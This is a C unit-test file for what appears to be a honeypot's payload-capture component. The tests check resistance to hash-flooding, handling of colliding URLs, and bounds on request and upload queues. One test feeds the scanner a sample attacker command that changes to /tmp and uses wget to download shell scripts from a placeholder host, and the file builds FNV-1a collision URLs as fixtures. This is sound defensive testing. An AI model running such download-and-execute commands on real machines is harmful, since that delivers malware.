/*
 * test_capture.c - unit tests for the payload pipeline's request side
 * (src/capture/capture.c): the URL table and the per-scan de-duplication
 * an attacker fills with URLs of his choosing.
 *
 * The pipeline is started on an event base that is never dispatched, so no
 * transfer starts: every new URL stays queued, which is what a table an
 * attacker floods with quickly failing URLs looks like.
 *   - URLs built to share one bucket of the unkeyed FNV-1a hash cost no
 *     more to add than as many ordinary URLs (the table is keyed per
 *     process: an attacker cannot line his URLs up in one chain and make
 *     each new one walk all the others);
 *   - two different URLs of one request whose unkeyed FNV-1a hashes are
 *     equal are both requested (the second one is not taken for a repeat
 *     of the first, so a decoy cannot hide the real download);
 *   - requests joining a transfer in flight are bounded in number: past the
 *     bound they are answered at once, each still with its one event;
 *   - uploads waiting for the worker are bounded in number.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <ftw.h>
#include <sys/stat.h>
#include <unistd.h>
#include <cmocka.h>
#include <event2/event.h>
#include <sqlite3.h>

#include "capture/capture.h"
#include "capture/urlx.h"
#include "config.h"
#include "event.h"
#include "cpu_time.h"

static char dir[64];
static struct event_base *base;
static struct hp_config cfg;

static void start(void)
{
    char err[256] = "";
    memset(&cfg, 0, sizeof(cfg));
    cfg.data_dir = dir;
    cfg.capture = (struct hp_capture_cfg){
        .fetch = true, .max_size = 1 << 20, .timeout_ms = 60000, .concurrency = 8, .queue = 100000,
        .dedup_window_ms = 3600000, .retries = 0, .retry_delay_ms = 10000, .quota = 1 << 30,
        .depth = 0, .per_session = 0, .per_host = 0, .shell_wait_ms = 30000,
    };
    base = event_base_new();
    assert_non_null(base);
    if (hp_capture_start(&cfg, base, err, sizeof(err)) != 0)
        fail_msg("hp_capture_start: %s", err);
}

static void stop(void)
{
    hp_capture_stop();
    event_base_free(base);
    base = NULL;
}

static int setup(void **state)
{
    (void)state;
    snprintf(dir, sizeof(dir), "/tmp/hp-test-capture-XXXXXX");
    return mkdtemp(dir) ? 0 : -1;
}

static int rm_one(const char *path, const struct stat *st, int flag, struct FTW *ftw)
{
    (void)st;
    (void)flag;
    (void)ftw;
    return remove(path);
}

static int teardown(void **state)
{
    (void)state;
    if (base)
        stop();                                     /* a test that failed half-way */
    return nftw(dir, rm_one, 8, FTW_DEPTH | FTW_PHYS);
}

/* The table's former hash: FNV-1a, the same for every process. */
static uint32_t fnv1a_from(uint32_t h, const char *s)
{
    for (; *s; s++)
        h = (h ^ (uint8_t)*s) * 16777619u;
    return h;
}

/* URL i: distinct hosts, and when aimed, a suffix that puts it into
 * bucket 0 of the unkeyed hash modulo the table's 4096 buckets. */
static void url_of(unsigned i, bool aimed, char *out, size_t n)
{
    static const char d[] = "abcdefghijklmnopqrstuvwxyz0123456789";
    int len = snprintf(out, n, "http://h%u.example/x", i);
    if (!aimed)
        return;
    uint32_t h0 = fnv1a_from(2166136261u, out);
    for (unsigned s = 0; s < 36u * 36 * 36; s++) {
        char suf[4] = { d[s % 36], d[s / 36 % 36], d[s / 1296], 0 };
        if (fnv1a_from(h0, suf) % 4096 == 0) {
            snprintf(out + len, n - (size_t)len, "%s", suf);
            return;
        }
    }
    fail_msg("no suffix for %u", i);
}

#define FLOOD_N 16384

/* CPU time of asking for FLOOD_N new URLs (generated beforehand). */
static double cost_of_flood(bool aimed)
{
    static char urls[FLOOD_N][48];
    for (unsigned i = 0; i < FLOOD_N; i++) {
        url_of(i, aimed, urls[i], sizeof(urls[i]));
        char norm[HP_URLX_URL_MAX + 1];
        assert_int_equal(hp_urlx_normalize(urls[i], strlen(urls[i]), "http", norm, sizeof(norm)), 0);
        assert_string_equal(norm, urls[i]);        /* the table sees these very bytes */
    }
    start();
    double t0 = test_cpu_s();
    for (unsigned i = 0; i < FLOOD_N; i++) {
        struct hp_capture_req req = { .url = urls[i], .tool = "wget", .found_in = "test" };
        struct hp_capture_result now;
        assert_null(hp_capture_fetch(&req, &now));
        assert_string_equal(now.reason, "pending");
    }
    double t = test_cpu_s() - t0;
    struct hp_capture_stats st;
    hp_capture_get_stats(&st);
    assert_int_equal(st.queued, FLOOD_N);
    stop();
    return t;
}

static void test_url_table_not_floodable(void **state)
{
    (void)state;
    double plain = cost_of_flood(false);
    double aimed = cost_of_flood(true);
    /* keyed: both spread alike; unkeyed, the aimed ones walk one chain of
     * up to FLOOD_N entries each (hundreds of times the plain cost) */
    if (aimed > 10 * plain + 0.05)
        fail_msg("%u URLs aimed at one bucket took %.3f s, as many plain ones %.3f s", FLOOD_N, aimed,
                 plain);
}

/* Two URLs found by one scan whose unkeyed FNV-1a hashes are equal
 * (0x0984baa6, found by a birthday search) are two requests. */
static void test_scan_colliding_urls_both_requested(void **state)
{
    (void)state;
    static const char text[] = "cd /tmp; wget http://dl.example.com/avjqaa.sh; wget http://dl.example.com/9pfcaa.sh";
    assert_int_equal(fnv1a_from(2166136261u, "http://dl.example.com/avjqaa.sh"),
                     fnv1a_from(2166136261u, "http://dl.example.com/9pfcaa.sh"));
    start();
    struct hp_capture_stats st0, st1;
    hp_capture_get_stats(&st0);
    size_t n = hp_capture_scan(NULL, text, sizeof(text) - 1, "test");
    hp_capture_get_stats(&st1);
    stop();
    assert_int_equal(n, 2);
    assert_int_equal(st1.requested - st0.requested, 2);
    assert_int_equal(st1.queued, 2);
}

static size_t emitted;

static void count_event(void *arg, struct hp_event *e)
{
    (void)arg;
    emitted++;
    hp_event_unref(e);
}

/* Requests for a URL whose transfer runs wait for it, each with its event;
 * past WAITERS_MAX (65536) of them they are answered at once (queue_full)
 * instead of piling up for as long as the attacker's server stalls. */
static void test_joins_bounded(void **state)
{
    (void)state;
    enum { JOINS = 70000, CAP = 65536 };
    struct hp_capture_req req = { .url = "http://slow.example/x.sh", .tool = "wget", .found_in = "test",
                                  .emit = count_event };
    struct hp_capture_result now;
    start();
    emitted = 0;
    assert_null(hp_capture_fetch(&req, &now));      /* the transfer's own request */
    assert_string_equal(now.reason, "pending");
    for (unsigned i = 0; i < JOINS; i++)
        assert_null(hp_capture_fetch(&req, &now));
    assert_int_equal(emitted, JOINS - (CAP - 1));
    assert_string_equal(now.reason, "queue_full");
    struct hp_capture_stats st;
    hp_capture_get_stats(&st);
    assert_int_equal(st.cached, CAP - 1);
    assert_int_equal(st.shed, JOINS - (CAP - 1));
    stop();
    assert_int_equal(emitted, JOINS + 1);           /* every request had its one event */
}

/* Uploads wait for the worker in a bounded backlog: with the worker held
 * up (the index locked by another writer), 10000 uploads leave at most
 * the backlog's 4096 (and the one the worker holds) to be indexed. */
static void test_upload_backlog_bounded(void **state)
{
    (void)state;
    enum { UPLOADS = 10000, BACKLOG = 4096 };
    static const char sha[] = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad";
    char path[128];
    sqlite3 *db = NULL;
    start();
    snprintf(path, sizeof(path), "%s/payloads.sqlite", dir);
    assert_int_equal(sqlite3_open(path, &db), SQLITE_OK);
    assert_int_equal(sqlite3_exec(db, "BEGIN IMMEDIATE", NULL, NULL, NULL), SQLITE_OK);
    for (unsigned i = 0; i < UPLOADS; i++)
        hp_capture_upload(NULL, sha, 3, "test", "abc.txt");
    assert_int_equal(sqlite3_exec(db, "COMMIT", NULL, NULL, NULL), SQLITE_OK);
    stop();                                         /* the worker finishes its backlog */
    sqlite3_stmt *st = NULL;
    assert_int_equal(sqlite3_prepare_v2(db, "SELECT COUNT(*) FROM sources", -1, &st, NULL), SQLITE_OK);
    assert_int_equal(sqlite3_step(st), SQLITE_ROW);
    int rows = sqlite3_column_int(st, 0);
    sqlite3_finalize(st);
    sqlite3_close(db);
    assert_true(rows > 0);
    if (rows > BACKLOG + 1)
        fail_msg("%d of %d uploads waited for the worker", rows, UPLOADS);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_url_table_not_floodable, setup, teardown),
        cmocka_unit_test_setup_teardown(test_scan_colliding_urls_both_requested, setup, teardown),
        cmocka_unit_test_setup_teardown(test_joins_bounded, setup, teardown),
        cmocka_unit_test_setup_teardown(test_upload_backlog_bounded, setup, teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
